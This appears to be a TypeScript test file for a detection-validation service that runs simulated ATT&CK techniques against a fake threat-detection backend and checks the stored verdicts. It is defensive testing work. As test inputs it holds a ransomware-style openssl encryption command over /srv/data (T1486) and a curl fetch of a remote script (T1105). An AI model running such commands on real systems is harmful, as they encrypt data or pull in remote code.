import pino from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ValidationReport } from '../../src/app/validation-report.ts';
import { runPollsInProcess } from '../../src/app/validation-runner.ts';
import { watchValidation } from '../../src/cli/validate.ts';
import { admin } from '../helpers/threatstack.ts';
import { covered, uncovered, ValidationHarness, verdictCounts } from './service-harness.ts';

/**
 * Detection validation end to end through the application (the validation service) and the one
 * job runtime (the in-process queue over the store's ledger, driven by hand with the simulator's
 * fake clock): 20 techniques run through the simulator's attack endpoint, each action's polls
 * run as `validation-poll` jobs at the window model's times, verdicts stored with their evidence.
 */

let h: ValidationHarness;

beforeEach(async () => {
  h = await ValidationHarness.open();
});

afterEach(async () => {
  await h.close();
});

const techniques = [...covered, ...uncovered];

async function campaign(): Promise<string> {
  const created = await h.vigil.validations.run({
    integration: 'ts',
    techniques,
    host: h.hosts[0]!,
    executor: 'simulator',
  });
  expect(created.actions).toBe(20);
  return created.id;
}

function verdictsByTechnique(report: ValidationReport): Record<string, string | null> {
  return Object.fromEntries(report.actions.map((a) => [a.action.technique, a.verdict]));
}

function expectedVerdicts(): Record<string, string> {
  return Object.fromEntries(techniques.map((t) => [t, covered.includes(t) ? 'Alerted' : 'Missed']));
}

describe('detection validation through the service and the job runtime', () => {
  it.each([
    { skew: 'none', offsetMs: 0, adjustmentSeconds: 0 },
    { skew: 'simulator 10 min behind, E = +600 s', offsetMs: -600_000, adjustmentSeconds: 600 },
  ])(
    '12 Alerted, 8 Missed, a blocked action Prevented (skew: $skew)',
    async ({ offsetMs, adjustmentSeconds }) => {
      await admin(h.sim.sim.url, 'PUT', '/_sim/clock', { offsetMs });
      await h.vigil.integrations.update('ts', { fields: { eventTimeAdjustmentSeconds: adjustmentSeconds } });
      const id = await campaign();
      const blocked = await h.vigil.validations.record({
        integration: 'ts',
        technique: 'T1486',
        host: h.hosts[1]!,
        command: 'openssl enc -aes-256-cbc -in /srv/data -out /srv/data.enc',
        outcome: 'blocked',
      });
      const running = await h.vigil.validations.show(id);
      expect(running.status).toBe('running');
      expect(running.actions[0]!.progress).toMatchObject({ pollsDone: 0, polls: 7 });
      const [report, prevented] = await h.drive(await h.startRuntime(), [id, blocked.id]);
      expect(verdictCounts([report!])).toEqual({ Alerted: 12, Missed: 8 });
      expect(verdictsByTechnique(report!)).toEqual(expectedVerdicts());
      expect(prevented!.verdicts).toEqual({ Prevented: 1 });
      for (const action of report!.actions) {
        expect(action.progress).toMatchObject({ pollsDone: 7, polls: 7, nextPollAt: null });
        expect(action.progress.windowsSearched).toHaveLength(7);
        expect(action.suspicious).toBeNull(); // the integration does not save them
        const evidence = (action.correlation as { evidence: { alerts: Array<{ matched: string[] }> } })
          .evidence;
        expect(evidence.alerts).toHaveLength(action.verdict === 'Alerted' ? 1 : 0);
        if (action.verdict === 'Alerted') {
          expect(evidence.alerts[0]!.matched).toEqual(expect.arrayContaining(['hostname', 'time', 'marker']));
        }
      }
    },
  );

  it("writes discovered network devices under the integration's discovery owner; its syncs keep them", async () => {
    const { id } = await h.vigil.validations.run({
      integration: 'ts',
      techniques: ['T1105'],
      host: h.hosts[0]!,
      executor: 'simulator',
      command: 'curl -s http://203.0.113.7/x.sh',
    });
    const [report] = await h.drive(await h.startRuntime(), [id]);
    expect(report!.verdicts).toEqual({ Alerted: 1 });
    expect((await h.vigil.graph.stats()).entities.network_device).toBe(1); // curl's 203.0.113.7
    const sync = await h.vigil.sync.runIntegration('ts', {
      client: { now: h.sim.clock.now, sleep: async () => {} },
    });
    expect(sync.report.status).toBe('success');
    expect((await h.vigil.graph.stats()).entities.network_device).toBe(1);
  });

  it('keeps suspicious events only when the integration saves them', async () => {
    await h.vigil.integrations.update('ts', { fields: { saveSuspiciousEvents: true } });
    const id = await campaign();
    const [report] = await h.drive(await h.startRuntime(), [id]);
    expect(verdictCounts([report!])).toEqual({ Alerted: 12, Missed: 8 });
    const missed = report!.actions.find((a) => a.verdict === 'Missed')!;
    // The other actions on the same host raised alerts in its windows: their events failed the marker.
    const suspicious = missed.suspicious as Array<{ failed: Array<{ field: string }> }>;
    expect(suspicious.length).toBeGreaterThan(0);
    for (const s of suspicious) expect(s.failed.map((f) => f.field)).toEqual(['marker']);
  });

  it('a runtime stopped and restarted mid-validation finishes with the same verdicts and no duplicate evidence', async () => {
    const id = await campaign();
    const first = await h.startRuntime();
    const midway = await h.drive(first, [id], { maxSteps: 6 });
    expect(midway[0]!.status).toBe('running');
    expect(midway[0]!.actions.some((a) => a.progress.pollsDone > 0)).toBe(true);
    await first.runtime.stop();
    const [report] = await h.drive(await h.startRuntime(), [id]);
    expect(verdictsByTechnique(report!)).toEqual(expectedVerdicts());
    for (const action of report!.actions) {
      expect(action.progress.windowsSearched.map((w) => w.index)).toEqual([0, 1, 2, 3, 4, 5, 6]);
      const { alerts, events } = (
        action.correlation as {
          evidence: { alerts: Array<{ alertId: string }>; events: Array<{ eventId: string }> };
        }
      ).evidence;
      expect(new Set(alerts.map((a) => a.alertId)).size).toBe(alerts.length);
      expect(new Set(events.map((e) => e.eventId)).size).toBe(events.length);
    }
  });

  it('an event that joined an alert raised earlier for another run → Detected (alert aggregation)', async () => {
    const rule = {
      technique: 'T1059.004',
      aggregateFields: ['exe', 'user', 'hostname'],
      windowSeconds: 3600,
    };
    const put = await admin(h.sim.sim.url, 'PUT', '/_sim/detection', {
      aggregateAlerts: true,
      rules: [rule],
    });
    expect(put.status).toBe(200);
    const run = () =>
      h.vigil.validations.run({
        integration: 'ts',
        techniques: ['T1059.004'],
        host: h.hosts[0]!,
        executor: 'simulator',
      });
    const first = await run();
    h.sim.clock.advance(20_000); // the first run's alert (latency 5 s) exists when the second runs
    const second = await run();
    const [raised, joined] = await h.drive(await h.startRuntime(), [first.id, second.id]);
    expect(raised!.verdicts).toEqual({ Alerted: 1 });
    expect(joined!.verdicts).toEqual({ Detected: 1 });
    type Evidence = { evidence: { alerts: Array<{ alertId: string }>; events: Array<{ alertId: string }> } };
    const alertId = (raised!.actions[0]!.correlation as Evidence).evidence.alerts[0]!.alertId;
    const { evidence } = joined!.actions[0]!.correlation as Evidence;
    expect(evidence.alerts).toEqual([]);
    expect(evidence.events.length).toBeGreaterThan(0);
    for (const event of evidence.events) expect(event.alertId).toBe(alertId);
  });

  it('`show --watch` re-renders at its interval until every verdict is in', async () => {
    const { id } = await h.vigil.validations.run({
      integration: 'ts',
      techniques: ['T1059.004', 'T1033'],
      host: h.hosts[0]!,
      executor: 'simulator',
    });
    const runtime = await h.startRuntime();
    const frames: string[] = [];
    const slept: number[] = [];
    const last = await watchValidation(() => h.vigil.validations.show(id), {
      intervalMs: 5000,
      write: (text) => frames.push(text),
      sleep: async (ms) => {
        slept.push(ms);
        await h.drive(runtime, [id], { maxSteps: 0 });
        h.sim.clock.advance(ms);
      },
    });
    expect(last.verdicts).toEqual({ Alerted: 1, Missed: 1 });
    expect(frames.length).toBe(slept.length + 1);
    expect(new Set(slept)).toEqual(new Set([5000]));
    expect(frames[0]).toMatch(/running; verdicts none yet/);
    expect(frames[0]).toMatch(/T1059\.004 .* 0\/7 .* pending/);
    expect(frames.at(-1)).toMatch(/complete; verdicts Alerted 1, Missed 1/);
  });

  it('`--wait` drives the polls in process (its own runtime over the ledger) to the verdicts', async () => {
    const id = await campaign();
    const seen: string[] = [];
    const [report] = await runPollsInProcess(h.vigil, [id], {
      logger: pino({ level: 'silent' }),
      tickMs: 5,
      now: h.sim.clock.now,
      // Each wait moves the fake clock a second and yields to the runtime's tickers.
      sleep: async () => {
        h.sim.clock.advance(1000);
        await new Promise((resolve) => setImmediate(resolve));
        await new Promise((resolve) => setTimeout(resolve, 5));
      },
      onReports: (reports) => seen.push(reports[0]!.status),
    });
    expect(verdictsByTechnique(report!)).toEqual(expectedVerdicts());
    expect(seen[0]).toBe('running');
    expect(seen.at(-1)).toBe('complete');
  });

  it('checks every technique of a run before the executor runs the first', async () => {
    const run = h.vigil.validations.run({
      integration: 'ts',
      techniques: ['T1059.004', 'T9999'],
      host: h.hosts[0]!,
      executor: 'simulator',
    });
    await expect(run).rejects.toMatchObject({
      code: 'INPUT_INVALID',
      message: expect.stringMatching(/techniques\[1\]\.technique: T9999/),
    });
    const stats = await admin<{ actions: number }>(h.sim.sim.url, 'GET', '/_sim/stats');
    expect(stats.json.actions).toBe(0);
    expect(await h.vigil.validations.list()).toEqual([]);
  });
});
